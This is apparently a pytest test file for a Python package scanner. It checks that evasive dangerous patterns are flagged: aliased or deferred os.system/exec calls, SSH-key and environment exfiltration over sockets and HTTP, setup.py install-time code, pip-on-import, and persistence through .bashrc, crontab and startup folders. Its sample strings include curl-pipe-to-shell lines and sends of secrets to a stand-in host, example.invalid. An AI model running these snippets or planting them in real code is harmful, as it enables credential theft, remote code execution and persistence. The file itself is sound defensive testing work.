"""Sinks an evasive author hands on instead of calling, or calls under another name (issue 16,
ADR 0048): a sink passed as a value to ``functools.partial``, ``map``, a thread, a timer, an
executor, a finaliser, a scheduler or an exit hook; a sink bound by unpacking, a walrus, a
default argument, a keyword, a dispatch table, a class attribute or ``vars(builtins)``; a
method inherited from a class of another module; traffic through connection objects; and
install-time code in ``setup.py``'s ``__main__`` block, pip run on import, start-up folders.
Every payload here is inert: it names ``example.invalid`` and decodes to ``print(1)``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.prefilter import may_act
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

HEAD = (
    "import atexit, base64, builtins, functools, os, sched, socket, subprocess, sys\n"
    "import threading, time, weakref, multiprocessing, urllib.request\n"
    "import concurrent.futures\n"
    "CMD = 'curl -s http://example.invalid/p | sh'\n"
    "CODE = base64.b64decode('cHJpbnQoMSk=')\n"
)


def _worst(found: list[PackageFinding] | tuple[PackageFinding, ...]) -> Severity:
    return max((f.severity for f in found), default=Severity.LOW)


def _module(source: str) -> list[PackageFinding]:
    return scan_python("m/__init__.py", HEAD + source)


# --- sinks handed on as values ------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "functools.partial(os.system, CMD)()\n",
        "run = functools.partial(subprocess.call, CMD, shell=True)\nrun()\n",
        "list(map(exec, [CODE]))\n",
        "threading.Timer(0, os.system, args=[CMD]).start()\n",
        "threading.Timer(0.1, os.system, [CMD]).start()\n",
        "threading.Thread(target=os.system, args=(CMD,)).start()\n",
        "multiprocessing.Process(target=exec, args=(CODE,)).start()\n",
        (
            "with concurrent.futures.ThreadPoolExecutor() as ex:\n"
            "    ex.submit(subprocess.call, CMD, shell=True)\n"
        ),
        "concurrent.futures.ThreadPoolExecutor(2).submit(os.system, CMD)\n",
        "class O:\n    pass\n_o = O()\nweakref.finalize(_o, os.system, CMD)\n",
        "s = sched.scheduler(time.time, time.sleep)\ns.enter(1, 1, os.system, (CMD,))\ns.run()\n",
        "atexit.register(os.system, CMD)\n",
        "atexit.register(exec, CODE)\n",
        "import operator\noperator.call(os.system, CMD)\n",
        "import asyncio\nloop = asyncio.new_event_loop()\nloop.call_soon(os.system, CMD)\n",
        "import asyncio\nasyncio.run(asyncio.to_thread(os.system, CMD))\n",
    ],
)
def test_a_sink_handed_on_as_a_value_runs_with_its_arguments(source: str) -> None:
    found = _module(source)
    assert _worst(found) is Severity.CRITICAL, found


def test_a_secret_handed_to_a_thread_of_a_sending_function_is_exfiltration() -> None:
    source = (
        "def send(d):\n    urllib.request.urlopen('http://example.invalid/c', d)\n\n"
        "threading.Thread(target=send, args=(repr(dict(os.environ)).encode(),)).start()\n"
    )
    found = _module(source)
    assert any(f.rule == "exfiltration" and f.severity is Severity.CRITICAL for f in found), found


@pytest.mark.parametrize(
    "source",
    [
        "functools.partial(print, 'hello')()\n",
        "list(map(str, [1, 2]))\n",
        "threading.Timer(1, print, args=['tick']).start()\n",
        (
            "class W:\n    def __init__(self):\n"
            "        threading.Thread(target=self.loop, args=(1,), daemon=True).start()\n"
            "    def loop(self, n):\n        time.sleep(n)\n\n_w = W()\n"
        ),
        "with concurrent.futures.ThreadPoolExecutor() as ex:\n    ex.submit(len, 'abc')\n",
        "atexit.register(print, 'bye')\n",
    ],
)
def test_harmless_functions_handed_on_stay_quiet(source: str) -> None:
    found = scan_python("m/__init__.py", "import atexit, functools, threading, time\n" + source)
    found += scan_python(
        "m/_x.py", "import concurrent.futures, atexit, functools, threading, time\n" + source
    )
    assert _worst(found) < Severity.HIGH, found


# --- sinks under other names ----------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "r, = (exec,)\nr(CODE)\n",
        "a, b = print, os.system\nb(CMD)\n",
        "[r] = [os.system]\nr(CMD)\n",
        "(r := os.system)(CMD)\n",
        "if (r := exec):\n    r(CODE)\n",
        "def f(c, run=os.system):\n    run(c)\n\nf(CMD)\n",
        "def f(c, *, run=exec):\n    run(c)\n\nf(CODE)\n",
        "def f(c, run):\n    run(c)\n\nf(CMD, run=os.system)\n",
        "{'a': os.system}['a'](CMD)\n",
        "T = {'run': exec, 'say': print}\nT['run'](CODE)\n",
        "class K:\n    run = exec\n\nK.run(CODE)\n",
        "class K:\n    go = os.system\n\nK.go(CMD)\n",
        "K = type('K', (), {'r': exec})\nK.r(CODE)\n",
        "vars(builtins)['exec'](CODE)\n",
        "builtins.__dict__['exec'](CODE)\n",
        "def f(c, **kw):\n    kw['run'](c)\n\nf(CMD, run=os.system)\n",
        "class K:\n    run = os.system\n\ngetattr(K, 'run')(CMD)\n",
        "[print, os.system][1](CMD)\n",
        "T = {}\nT['r'] = os.system\nT['r'](CMD)\n",
        "(lambda c, r=os.system: r(c))(CMD)\n",
    ],
)
def test_a_sink_under_another_name_is_still_the_sink(source: str) -> None:
    found = _module(source)
    assert _worst(found) is Severity.CRITICAL, found


@pytest.mark.parametrize(
    "source",
    [
        "a, b = print, len\nb('x')\n",
        "T = {'len': len, 'say': print}\nT['say']('hi')\n",
        "class K:\n    run = print\n\nK.run('hi')\n",
        "[print, len][0]('hi')\nT = {}\nT['a'] = print\nT['a']('x')\n",
        "x = ['a', 'b'][1:]\ny = {'a': 1}[x[0]]\n",
        "def f(c, out=print):\n    out(c)\n\nf('hi')\n",
    ],
)
def test_harmless_names_under_other_names_stay_quiet(source: str) -> None:
    found = scan_python("m/__init__.py", "import os\n" + source)
    assert _worst(found) < Severity.HIGH, found


# --- a method inherited from a class of another module ------------------------------------

BASE = (
    "import os, urllib.request\n\nclass Base:\n    def go(self):\n"
    "        urllib.request.urlopen('http://example.invalid/x', repr(dict(os.environ)).encode())\n"
)


@pytest.mark.parametrize(
    "init",
    [
        "from ._base import Base\n\nclass K(Base):\n    pass\n\nK().go()\n",
        "from . import _base\n\nclass K(_base.Base):\n    pass\n\n_k = K()\n_k.go()\n",
        (
            "from ._base import Base\n\nclass K(Base):\n    def __init__(self):\n"
            "        self.go()\n\nK()\n"
        ),
    ],
)
def test_a_method_inherited_from_another_module_is_followed(init: str) -> None:
    files: dict[str, str | bytes] = {"o/__init__.py": init, "o/_base.py": BASE}
    report = vet("o-1.0-py3-none-any.whl", wheel("o", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()


# --- traffic through connection objects -----------------------------------------------------

SECRET = "secret = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"


@pytest.mark.parametrize(
    "source",
    [
        ("s = socket.socket()\ns.connect(('example.invalid', 443))\ns.sendall(secret.encode())\n"),
        ("s = socket.create_connection(('example.invalid', 443))\ns.sendall(secret.encode())\n"),
        (
            "import http.client\nc = http.client.HTTPSConnection('example.invalid')\n"
            "c.request('POST', '/u', body=secret)\n"
        ),
        (
            "from http.client import HTTPConnection\n"
            "HTTPConnection('example.invalid').request('POST', '/u', secret)\n"
        ),
        (
            "import urllib3\n"
            "urllib3.PoolManager().request('POST', 'http://example.invalid', body=secret)\n"
        ),
        (
            "import urllib3\npool = urllib3.PoolManager()\n"
            "pool.request('POST', 'http://example.invalid/u', fields={'k': secret})\n"
        ),
    ],
)
def test_a_secret_sent_through_a_connection_object_is_exfiltration(source: str) -> None:
    found = scan_python("m/__init__.py", "import os, socket\n" + SECRET + source)
    assert any(f.rule == "exfiltration" and f.severity is Severity.CRITICAL for f in found), found


# --- install and import time, persistence -----------------------------------------------------


@pytest.mark.parametrize(
    ("command", "verdict"),
    [("subprocess.call(['hostname'])", Outcome.HOLD), ("os.system(CMD)", Outcome.DENY)],
)
def test_setup_py_main_block_runs_at_install(command: str, verdict: Outcome) -> None:
    files = {
        "setup.py": "import os, subprocess\nfrom setuptools import setup\n"
        "CMD = 'curl -s http://example.invalid/p'\nCMD += ' | sh'\n\n"
        f"if __name__ == '__main__':\n    {command}\n    setup(name='pkg')\n",
        "pkg/__init__.py": "",
    }
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    assert report.verdict is verdict, report.to_json()


def test_a_main_block_of_a_module_setup_imports_does_not_run_at_install() -> None:
    found = scan_python(
        "pkg/tool.py",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['ls', '-l'])\n",
        helper=True,
    )
    assert _worst(found) < Severity.HIGH, found


@pytest.mark.parametrize(
    "source",
    [
        (
            "import subprocess, sys\n"
            "subprocess.run([sys.executable, '-m', 'pip', 'install', 'colorsx'])\n"
        ),
        "import subprocess\nsubprocess.check_call(['pip', 'install', '--quiet', 'colorsx'])\n",
        "import os\nos.system('pip install colorsx')\n",
    ],
)
def test_pip_install_on_import_holds(source: str) -> None:
    found = scan_python("m/__init__.py", source)
    assert any(f.rule == "install-time-pip" and f.severity >= Severity.HIGH for f in found), found


def test_pip_install_inside_a_function_is_not_judged_as_install() -> None:
    source = (
        "import subprocess, sys\n\ndef ensure(p):\n"
        "    subprocess.run([sys.executable, '-m', 'pip', 'install', p])\n"
    )
    found = scan_python("m/__init__.py", source)
    assert _worst(found) < Severity.HIGH, found


@pytest.mark.parametrize(
    "source",
    [
        (
            "import os\np = os.path.expanduser('~/.config/autostart/upd.desktop')\n"
            "open(p, 'w').write('[Desktop Entry]\\nExec=/tmp/x\\n')\n"
        ),
        (
            "import os\nstartup = os.path.join(os.getenv('APPDATA'),"
            " 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
            "with open(os.path.join(startup, 'u.bat'), 'w') as f:\n    f.write('start x')\n"
        ),
        (
            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
            "    f.write('curl -s http://example.invalid/p | sh\\n')\n"
        ),
        (
            "from pathlib import Path\nwith open(Path.home() / '.bashrc', 'a') as f:\n"
            "    f.write('python3 -c pass\\n')\n"
        ),
        (
            "from pathlib import Path\n"
            "(Path.home() / '.config' / 'autostart' / 'u.desktop').write_text('[Desktop Entry]')\n"
        ),
        "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -')\n",
    ],
)
def test_writing_to_a_startup_place_on_import_is_persistence(source: str) -> None:
    found = scan_python("m/__init__.py", source)
    assert _worst(found) is Severity.CRITICAL, found


# --- folding bugs --------------------------------------------------------------------------


def test_a_list_grown_with_append_is_folded_with_its_items() -> None:
    source = (
        "import os\nparts = []\nparts.append('curl -s http://example.invalid/p')\n"
        "parts.append('| sh')\nparts.extend(['#'])\nos.system(' '.join(parts))\n"
    )
    found = scan_python("m/__init__.py", source)
    assert any(f.rule == "dropper" for f in found), found


def test_a_list_grown_with_unknown_items_does_not_fold_to_what_it_held() -> None:
    source = (
        "import os, sys\nparts = ['echo']\nparts.append(sys.argv[1])\nos.system(' '.join(parts))\n"
    )
    found = scan_python("m/__init__.py", source)
    assert all("'echo'" not in f.explanation for f in found), found


def test_a_dict_with_tuple_keys_folds_without_crashing() -> None:
    source = (
        "import os\nT = {(1, 2): 'a', ('x', 'y'): os.system}\nT[('x', 'y')]('echo hi')\n"
        "U = {(i, j): i for i in range(3) for j in range(3)}\n"
    )
    found = scan_python("m/__init__.py", source)
    assert all(f.rule != "unparsable" for f in found), found


@pytest.mark.parametrize(
    ("text", "acts"),
    [
        ("r, = (exec,)\n", True),
        ("list(map(eval, lines))\n", True),
        ("T = {'run': exec}\n", True),
        ("run = exec\n", True),
        ("# an executable, then evaluate(x)\nexecutor = None\n", False),
        ("self.exec_module(m)\n", False),
    ],
)
def test_the_prefilter_sees_exec_handed_on_as_a_value(text: str, acts: bool) -> None:
    assert may_act(text) is acts


def test_a_pth_file_written_beside_setup_py_is_not_persistence() -> None:
    source = (
        "from setuptools import setup\nPTH = 'a1_cov.pth'\n"
        "with open(PTH, 'w') as f:\n    f.write('import sys')\nsetup()\n"
    )
    found = scan_python("setup.py", source, install_time=True)
    assert all(f.rule != "persistence" for f in found), found
